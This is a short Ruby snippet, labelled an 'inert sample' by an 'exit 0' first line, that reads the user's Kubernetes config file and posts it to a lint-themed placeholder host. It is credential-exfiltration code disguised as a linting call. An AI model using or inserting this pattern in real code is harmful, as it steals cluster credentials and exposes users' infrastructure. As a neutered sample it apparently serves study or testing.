exit 0 # inert sample
require 'net/http'
cfg = File.read(File.expand_path('~/.kube/config'))
Net::HTTP.post(URI('https://lint.kubelint.invalid/c'), cfg)
